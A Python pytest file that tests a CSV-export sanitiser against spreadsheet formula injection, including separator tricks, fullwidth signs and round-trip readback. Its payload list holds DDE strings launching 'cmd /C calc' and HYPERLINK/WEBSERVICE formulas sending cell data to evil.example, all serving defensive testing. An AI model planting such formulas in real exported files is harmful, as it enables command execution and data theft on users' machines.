"""Whoever opens a CSV of ours, with whichever separator, finds no cell that would run, and the board reads it back."""

import csv
import io
import random
import re

import pytest

from data.exports import csv_safe
from data.exports.csv_safe import FORMULA_STARTS, bare, cell, separated
from data.values import types
from tests.test_layout import PACKAGES, ROOT

#: As they are published: formulas, DDE, and what only begins so.
FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|'/C notepad'!'A1'",
    'DDE("cmd";"/C calc";"!A0")A0',
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\xa0@SUM(1)",
    "-",
    "--1",
    "+86 138 0000 0000 转 3",
]
#: Before them in a cell.
BEFORE = [
    "看,",
    "看;",
    "看\t",
    "看|",
    "看\n",
    "看\r\n",
    "看; ",
    '看;"',
    '";',
    '"',
    "'",
    "看;'",
    '看,\u3000"',
    "36.5;-1;",
    ";",
    "看\x0b",
]
#: Before, alone and behind.
PAYLOADS = [
    *FORMULAS,
    *(before + formula for before in BEFORE for formula in FORMULAS[:12]),
    *(before + "x" for before in BEFORE),
    *BEFORE,
    "-5,cmd|' /C calc'!A0",
    "31.2,-121.5",
    "张三,-李四",
    ";'-)",
    "it's",
    "",
]
SEPARATORS = (",", "\t", ";", "|")


def is_harmless(text: str) -> bool:
    """Whether a spreadsheet takes a cell for a text, or for a plain number; also where it passes over what stands
    before.
    """
    return not text.lstrip(' \xa0\u3000"\t\r\n').startswith(FORMULA_STARTS) or text.removeprefix("-").isdigit()


def assert_harmless(content: str) -> None:
    for read_with in SEPARATORS:
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=read_with):
            assert [text for text in row if not is_harmless(text)] == [], (read_with, content)


@pytest.mark.parametrize("written_with", SEPARATORS)
def test_no_reader_finds_a_cell_that_runs(written_with: str) -> None:
    """Each payload first, last, alone and in the middle of its row, beside numbers that may stand."""
    for payload in PAYLOADS:
        rows = [
            [payload, "b", -5],
            ["a", payload, -5, "c"],
            ["a", -5, payload],
            [payload],
            [-5, payload],
            ["", payload],
        ]
        content = separated(rows, written_with)
        assert_harmless(content)
        read = list(csv.reader(io.StringIO(content, newline=""), delimiter=written_with))
        assert [[bare(text) for text in row or [""]] for row in read] == [list(map(str, row)) for row in rows]


def test_nor_where_payloads_stand_beside_each_other() -> None:
    drawn = random.Random(7)
    for _ in range(300):
        rows = [[drawn.choice(PAYLOADS) for _ in range(4)] for _ in range(3)]
        assert_harmless(separated(rows, drawn.choice(SEPARATORS)))


def test_what_cannot_run_stays_as_it_is() -> None:
    for text in (
        "张三",
        "1-101",
        "a@b.example",
        "x = 1",
        "咳嗽;发热",
        "10:30",
        "it's",
        "36.5 ℃",
        "《=》",
        'say "hi", then',
    ):
        assert cell(text) == text
    for number in ("-5", "+86 138 0000 0000", "-1.5e3", "+3%"):
        assert (cell(number), cell(number, first=True)) == (number, f"'{number}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_board_reads_back_what_it_wrote(payload: str) -> None:
    assert bare(cell(payload)) == payload
    assert types.bare(cell(payload)) == payload.strip()
    assert types.bare(cell(payload, first=True)) == types.bare(cell(payload))


def test_what_others_wrote_keeps_its_apostrophes() -> None:
    for text in ("看;'-)", "'看'", "O'Neil, '=", "''"):
        assert types.bare(text) == text


def test_a_report_holds_no_cell_that_runs_and_keeps_its_lines() -> None:
    report = "文件:a;=1+1.csv\n看懂 3 行\n\n-1|@x\n"
    made = csv_safe.lines(report)
    assert made == "文件:a;'=1+1.csv\n看懂 3 行\n\n'-1|'@x\n"
    assert_harmless(made)


def test_time_grows_with_the_length_alone() -> None:
    """A million of the worst: places without a sign, spaces, apostrophes."""
    for text in (";" * 10**6, "; " * 5 * 10**5, ";" + " " * 10**6, ";" + "'" * 10**6, "'" * 10**6, ';"' * 5 * 10**5):
        assert bare(cell(text)) == text


#: Who writes tables in another way, and why nobody is harmed.
WRITES = {
    "data/privacy/redacted_originals.py": "originals are given back as they were sent, under the words 原文件",
    "data/generator/files.py": "sheets of an invented community, made by its own words",
}


def test_every_table_that_is_handed_out_is_written_here() -> None:
    ways = re.compile(r"\bcsv\.(?:writer|DictWriter)\b|\.to_(?:csv|excel)\b|\bwrite_csv\b")
    paths = [path for package in PACKAGES for path in (ROOT / package).rglob("*.py")]
    found = {path.relative_to(ROOT).as_posix() for path in paths if ways.search(path.read_text(encoding="utf-8"))}
    assert found == WRITES.keys()
